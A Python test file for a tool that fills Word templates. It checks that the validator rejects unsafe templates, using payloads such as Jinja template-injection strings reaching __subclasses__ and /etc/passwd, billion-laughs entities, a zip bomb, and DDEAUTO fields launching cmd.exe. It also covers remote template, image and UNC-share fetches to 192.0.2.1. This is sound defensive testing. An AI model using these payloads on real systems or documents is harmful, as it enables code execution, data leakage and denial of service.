"""A Word template from elsewhere: nothing it says is run here, and nothing it holds runs there."""

import io
import zipfile
from pathlib import Path

import docx
import pytest
from test_collect_refusals import LAUGHS, changed
from word_files import template, text_of, words_of_district

from rar import places
from rar.errors import RarError
from rar.packet.word.fill import check, fill
from rar.record.reading import parcel

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def letter(wrong: Path) -> str:
    with pytest.raises(RarError) as caught:
        check(wrong)
    return str(caught.value)


def part(file: Path, name: str) -> str:
    with zipfile.ZipFile(file) as archive:
        return archive.read(name).decode("utf-8")


def with_body(place: Path, xml: str) -> Path:
    """A template whose body holds the XML."""
    plain = template(place, "{{ district }}", name="plain.docx")
    body = part(plain, "word/document.xml").replace("<w:body>", f"<w:body>{xml}")
    return changed(plain, place / "protocol.docx", {"word/document.xml": body})


def related(place: Path, kind: str, target: str, mode: str = "External") -> Path:
    """A template whose document refers to something by a kind of relation."""
    plain = template(place, "{{ district }}", name="plain.docx")
    more = f'<Relationship Id="x1" Type="{kind}" Target="{target}"'
    more += ' TargetMode="External"/>' if mode else "/>"
    name = "word/_rels/document.xml.rels"
    relations = part(plain, name).replace("</Relationships>", f"{more}</Relationships>")
    return changed(plain, place / "protocol.docx", {name: relations, "word/thing.bin": b"x"})


def field(*texts: str) -> str:
    """A field whose instruction is cut into runs."""
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{k}"/></w:r>' for k in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


NESTED = "{%p for a in missing %}", "{%p for b in missing %}", "{%p for c in missing %}"


@pytest.mark.parametrize(
    "text",
    [
        *("{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ district.__class__ }}"),
        *("{{ cycler.__init__.__globals__ }}", "{{ district|attr('__class__') }}"),
        *("{%p for i in range(10**9) %}x{%p endfor %}", "{% include '/etc/passwd' %}"),
        *("{% import 'os' as os %}", "{% set x = 1 %}", "{{ 'x' * 10**9 }}", "{{ 9**9**9 }}"),
        *("{{ '%999999999d' % 1 }}", "{{ district.format(district) }}", "{{ district|center(9) }}"),
        *("{% macro m() %}{{ m() }}{% endmacro %}", "{% call m() %}{% endcall %}"),
        *("{% filter upper %}x{% endfilter %}", "{{ [1,2]|map('upper') }}", "{{ self }}"),
    ],
)
def test_a_template_that_asks_for_more_than_names_gets_a_letter(tmp_path, text):
    assert "cannot be filled" in letter(template(tmp_path, text))


def test_lists_within_one_another_cannot_keep_the_machine_busy(tmp_path):
    """Twelve lists of fifty items within one another would be more lines than there are atoms."""
    told = letter(template(tmp_path, *NESTED, "x", *["{%p endfor %}"] * 3))
    assert "'missing' is repeated within a list that it is no part of" in told
    for wrong in ("'aaaa'", "cards|join", "(cards or missing)", "a.questions"):
        lines = (
            "{%p for a in cards %}",
            "{%p for q in a.questions %}",
            f"{{%p for b in {wrong} %}}",
        )
        letter(template(tmp_path, *lines, "x", *["{%p endfor %}"] * 3))


def test_a_list_that_is_part_of_another_may_be_repeated_in_it(tmp_path, sample):
    lines = (
        "{%p for card in cards %}",
        "{%p for q in card.questions %}",
        "{{ q }}",
        "{%p endfor %}",
        "{%p endfor %}",
        "{%p for one in missing %}",
        "x",
        "{%p endfor %}",
    )
    file = template(tmp_path, *lines)  # fmt: skip
    check(file)
    names = words_of_district(sample, "0110").names | {"facilitator": False}
    assert text_of(fill(file, names))


def test_braces_beyond_all_measure_get_a_letter(tmp_path):
    assert "braces" in letter(template(tmp_path, "{{ district }}" * 2000))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", ["word/document.xml", "word/styles.xml", "docProps/core.xml"])
def test_entities_are_refused_in_every_part_of_a_template(tmp_path, name, encoding):
    plain = template(tmp_path, "{{ district }}", name="plain.docx")
    xml = part(plain, name).partition("?>")[2]
    text = f'<?xml version="1.0" encoding="{encoding}"?>{LAUGHS}{xml}'
    bad = changed(plain, tmp_path / "protocol.docx", {name: text.encode(encoding)})
    assert "declares entities" in letter(bad)


def test_a_template_that_unpacks_beyond_all_measure_gets_a_letter(tmp_path, monkeypatch):
    monkeypatch.setattr(parcel, "MOST_BYTES", 2_000_000)
    plain = template(tmp_path, "{{ district }}", name="plain.docx")
    bomb = changed(plain, tmp_path / "protocol.docx", {"word/media/a.png": b"\0" * 3_000_000})
    assert bomb.stat().st_size < 100_000
    assert "unpacked it has more than" in letter(bomb)


@pytest.mark.parametrize(
    "xml",
    [
        field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"),
        field("DD", "EAU", "TO cmd &quot;/k calc&quot;"),
        field(' INCLUDEPICTURE "http://192.0.2.1/a.png" \\d'),
        field('INCLUDETEXT "\\\\\\\\192.0.2.1\\\\share\\\\a.docx"'),
        field("LINK Excel.Sheet.8 a.xls"),
        field("MACROBUTTON Run Click"),
        field("IF 1 = 1 x"),
        field("{{ district }}"),
        field("PAGE").replace("PAGE", "PA</w:instrText></w:r>" + field("QUOTE 68 68 69")[5:-6]
                              + "<w:r><w:instrText>GE"),
        "<w:p><w:r><w:instrText>DDEAUTO cmd x</w:instrText></w:r></w:p>",
        '<w:p><w:fldSimple w:instr="dde cmd x"/></w:p>',
        field('HYPERLINK "file://192.0.2.1/share"'),
        field("HYPERLINK javascript:alert(1)"),
    ],
)  # fmt: skip
def test_a_field_that_starts_or_fetches_something_gets_a_letter(tmp_path, xml):
    told = letter(with_body(tmp_path, xml))
    assert "it holds a field that may start" in told or "it holds a link" in told


@pytest.mark.parametrize(
    "xml",
    [field("PAGE"), field(" NUMPAGES \\* MERGEFORMAT "), field('HYPERLINK "https://example.org/a"'),
     field('HYPERLINK \\l "top"'), field("DATE \\@ &quot;yyyy&quot;"),
     '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>'],
)  # fmt: skip
def test_fields_that_only_write_are_welcome(tmp_path, xml):
    check(with_body(tmp_path, xml))


def test_a_table_of_contents_with_its_links_is_welcome(tmp_path):
    inner = field('HYPERLINK \\l "a"')[5:-6]
    outer = field('TOC \\o "1-3"').replace(
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{inner}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )
    check(with_body(tmp_path, outer))


@pytest.mark.parametrize(
    ("kind", "target", "mode", "said"),
    [
        (f"{OFFICE}/attachedTemplate", "http://192.0.2.1/evil.dotm", "External", "leads to"),
        (f"{OFFICE}/image", "http://192.0.2.1/seen.png", "External", "leads to"),
        (f"{OFFICE}/hyperlink", "file:///c:/windows/system32/calc.exe", "External", "leads to"),
        (f"{OFFICE}/hyperlink", "javascript:alert(1)", "External", "leads to"),
        (f"{OFFICE}/hyperlink", "\\\\192.0.2.1\\share", "External", "leads to"),
        (f"{OFFICE}/oleObject", "http://192.0.2.1/a", "External", "leads to"),
        (f"{OFFICE}/oleObject", "thing.bin", "", "an embedded object"),
        (f"{OFFICE}/package", "thing.bin", "", "an embedded file"),
        (f"{OFFICE}/control", "thing.bin", "", "an ActiveX control"),
        (f"{OFFICE}/aFChunk", "thing.bin", "", "a file of another kind"),
        (f"{OFFICE}/subDocument", "thing.bin", "", "a subdocument"),
        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "thing.bin", "",
         "macros"),
        ("http://example.org/new", "thing.bin", "", "something of the kind 'new'"),
    ],
)  # fmt: skip
def test_what_is_loaded_from_elsewhere_or_runs_gets_a_letter(tmp_path, kind, target, mode, said):
    assert said in letter(related(tmp_path, kind, target, mode))


def test_a_link_to_the_web_is_welcome(tmp_path):
    check(related(tmp_path, f"{OFFICE}/hyperlink", "https://example.org/plan"))


def test_macros_in_a_template_get_a_letter(tmp_path):
    plain = template(tmp_path, "{{ district }}", name="plain.docx")
    types = part(plain, "[Content_Types].xml").replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    parts = {"[Content_Types].xml": types, "word/vbaProject.bin": b"Auto_Open"}
    assert "it holds macros" in letter(changed(plain, tmp_path / "protocol.docx", parts))


def test_xml_behind_another_ending_and_old_pictures_and_mail_merges_get_a_letter(tmp_path):
    plain = template(tmp_path, "{{ district }}", name="plain.docx")
    types = part(plain, "[Content_Types].xml").replace("/word/document.xml", "/word/document.bin")
    bad = {"[Content_Types].xml": types, "word/document.bin": part(plain, "word/document.xml")}
    assert "hides XML" in letter(changed(plain, tmp_path / "hidden.docx", bad))
    vml = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
    assert "old kind of picture" in letter(
        with_body(tmp_path, f'{vml}src="http://192.0.2.1/a.png"/></v:shape></w:pict></w:r></w:p>')
    )
    settings = part(plain, "word/settings.xml").replace(
        "</w:settings>", "<w:mailMerge><w:query w:val='x'/></w:mailMerge></w:settings>"
    )
    asks = changed(plain, tmp_path / "merge.docx", {"word/settings.xml": settings})
    assert "a database" in letter(asks)


def test_the_documents_made_from_our_own_templates_hold_no_field_and_no_link(sample, tmp_path):
    names = words_of_district(sample, "0110").names | {"facilitator": False}
    names["district"] = "DDEAUTO cmd /k calc {{ year }} {% include 'x' %}"
    made = fill(places.templates() / "prereading.docx", names)
    saved = io.BytesIO()
    made.save(saved)
    kept = tmp_path / "made.docx"
    kept.write_bytes(saved.getvalue())
    assert "DDEAUTO cmd /k calc {{ year }}" in text_of(docx.Document(str(kept)))
    with zipfile.ZipFile(kept) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"DDEAUTO" not in b"".join(everything.split(b"instrText")[1::2])
    assert b'TargetMode="External"' not in everything
